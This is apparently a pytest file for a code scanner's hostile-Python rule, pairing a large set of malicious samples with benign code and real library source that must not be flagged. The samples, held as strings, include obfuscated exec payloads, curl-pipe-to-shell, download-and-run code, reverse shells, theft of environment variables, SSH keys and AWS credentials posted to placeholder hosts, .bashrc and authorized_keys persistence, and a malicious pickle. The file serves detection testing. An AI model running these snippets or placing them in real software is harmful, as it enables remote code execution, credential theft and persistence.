"""Source that does what only an attacker's does, and real source that does not."""

from __future__ import annotations

import base64
import inspect
import textwrap
import zlib
from typing import TYPE_CHECKING

import pytest

from tests.checks.examples import outcomes, rules
from violet.domain import Severity

if TYPE_CHECKING:
    from pathlib import Path

RULE = "artifact/python-hostile"
CODE = b"import os; os.system('id')"
B64 = base64.b64encode(CODE).decode()
CURL = "curl http://203.0.113.5/x | sh"


def positive(directory: Path) -> Path:
    path = directory / "modeling.py"
    path.write_text(f"import base64\nexec(base64.b64decode('{B64}'))\n")
    return path


def benign(directory: Path) -> Path:
    path = directory / "modeling.py"
    path.write_text("import base64\n\n\ndef icon(text):\n    return base64.b64decode(text)\n")
    return path


HOSTILE = {
    "alias": f"from base64 import b64decode as d\ne = exec\ne(d('{B64}').decode())",
    "compile": f"import base64\nexec(compile(base64.b64decode('{B64}'), '<s>', 'exec'))",
    "zlib": f"exec(__import__('zlib').decompress({zlib.compress(CODE)!r}))",
    "rot13": "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
    "hex": "exec(bytes.fromhex('696d706f7274206f73').decode())",
    "reversed": "exec('so tropmi'[::-1])",
    "characters": "exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))",
    "comprehension": "exec(''.join(chr(i - 1) for i in [106, 110, 113, 112, 115, 117, 33, 112, 116]))",
    "escapes": "exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20os')",
    "xor": "exec(bytes(b ^ 5 for b in open('x', 'rb').read()))",
    "own function": f"import base64\ndef d(x):\n    return base64.b64decode(x)\ndef r(c):\n    exec(c)\nr(d('{B64}'))",
    "method": f"import base64\nclass A:\n    def __init__(self):\n        exec(base64.b64decode('{B64}'))\nA()",
    "lambda": f"import base64\n(lambda c: exec(base64.b64decode(c)))('{B64}')",
    "decorator": "@exec\n@input\nclass Model: ...",
    "marshal": f"import base64, marshal\nexec(marshal.loads(base64.b64decode('{B64}')))",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "importlib": "import importlib\nimportlib.import_module('o' + 's').system('id')",
    "modules": "import sys\nsys.modules['os'].system('id')",
    "globals": "globals()['__builtins__']['exec']('1')",
    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)('id')",
    "full width": "ｅｘｅｃ('1')",
    "object walk": "().__class__.__base__.__subclasses__()[100].__init__.__globals__['os'].system('id')",
    "partial": f"import functools, os\nfunctools.partial(os.system, {CURL!r})()",
    "map": f"import os\nlist(map(os.system, [{CURL!r}]))",
    "thread": f"import os, threading\nthreading.Thread(target=os.system, args=({CURL!r},)).start()",
    "attribute": f"import os\nclass A:\n    def __init__(self):\n        self.r = os.system\n"
    f"    def go(self):\n        self.r({CURL!r})\nA().go()",
    "optional import": f"try:\n    import os as q\nexcept ImportError:\n    q = None\nq.popen({CURL!r})",
    "through another module": f"import shutil\nshutil.os.system({CURL!r})",
    "star import": f"from os import *\nsystem({CURL!r})",
    "nested exec": f'exec("import os\\nos.system({CURL!r})")',
    "python -c": f'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import os; os.system({CURL!r})"])',
    "download and exec": "import requests\nexec(requests.get('http://x').text)",
    "download and start": (
        "import os, urllib.request\nurllib.request.urlretrieve('http://x/m', '/tmp/m')\nos.system('/tmp/m')"
    ),
    "write and start": "import requests, subprocess, tempfile, os\np = os.path.join(tempfile.gettempdir(), 'm')\n"
    "with open(p, 'wb') as f:\n    f.write(requests.get('http://x').content)\nsubprocess.Popen([p])",
    "reverse shell": "import os, pty, socket\ndef f():\n    s = socket.socket()\n    s.connect(('h', 1))\n"
    "    [os.dup2(s.fileno(), n) for n in (0, 1, 2)]\n    pty.spawn('/bin/sh')",
    "socket as input": (
        "import socket, subprocess\ns = socket.create_connection(('h', 1))\nsubprocess.Popen('sh', stdin=s)"
    ),
    "command loop": "import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\n"
    "while True:\n    s.send(subprocess.check_output(s.recv(1024).decode(), shell=True))",
    "environment": "import os, requests\nrequests.post('http://x', json=dict(os.environ))",
    "request object": (
        "import os, json, urllib.request as u\n"
        "r = u.Request('http://x', data=json.dumps(dict(os.environ)))\nu.urlopen(r)"
    ),
    "key file": (
        "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://x', data=k)"
    ),
    "pathlib": "from pathlib import Path\nimport requests\nk = (Path.home() / '.aws' / 'credentials').read_text()\n"
    "requests.post('http://x', data={'k': k})",
    "shell start file": "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
    "authorized keys": "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('x')",
    "out of sight": "x = 1;" + " " * 300 + "import os; os.system('id')",
    "encoding": "# coding: utf-7\nx = 1",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_source_is_high(tmp_path: Path, name: str) -> None:
    path = tmp_path / "helper.py"
    path.write_text(HOSTILE[name], encoding="utf-8")
    found = [f for f in outcomes(path) if f.rule == RULE]
    assert found
    assert max(f.severity for f in found) >= Severity.HIGH


ORDINARY = {
    "module entry": (
        "import subprocess, sys\n\nif __name__ == '__main__':\n    subprocess.run([sys.executable, '-m', 'pytest'])"
    ),
    "named tuple": "exec(compile('x = 1', '<made>', 'exec'), {})",
    "plugins": "import importlib\n\n\ndef load(name):\n    return importlib.import_module(name)",
    "attributes": "import numpy as np\n\n\ndef call(name, x):\n    return getattr(np, name)(x)",
    "download": (
        "import requests\n\n\ndef fetch(url, path):\n    with open(path, 'wb') as f:\n"
        "        f.write(requests.get(url).content)"
    ),
    "token": "import os, requests\nkey = os.environ['API_KEY']\n\n\ndef ask(x):\n"
    "    return requests.post('https://api.example.com', headers={'Authorization': key}, json=x).json()",
    "text that names functions": (
        "HELP = 'os.system(\"curl http://x | sh\") and exec(base64.b64decode(x)) are dangerous'"
    ),
    "subprocess environment": (
        "import os, subprocess\n\n\ndef build():\n    subprocess.run(['make'], env={**os.environ, 'CC': 'gcc'})"
    ),
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_source_is_below_medium(tmp_path: Path, name: str) -> None:
    path = tmp_path / "helper.py"
    path.write_text(ORDINARY[name])
    assert all(f.severity < Severity.MEDIUM for f in outcomes(path))


def test_real_libraries_are_below_high(tmp_path: Path) -> None:
    import joblib.externals.loky.backend.context
    import numpy.lib._npyio_impl
    import sklearn.utils.estimator_checks

    for number, module in enumerate(
        (joblib.externals.loky.backend.context, numpy.lib._npyio_impl, sklearn.utils.estimator_checks, textwrap)
    ):
        path = tmp_path / f"m{number}.py"
        path.write_text(inspect.getsource(module))
        assert all(f.severity < Severity.HIGH for f in outcomes(path)), module


def test_a_pickle_in_the_source_is_examined_as_one(tmp_path: Path) -> None:
    path = tmp_path / "loader.py"
    path.write_text("import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')\n")
    assert "artifact/pickle-dangerous-call" in rules(path)
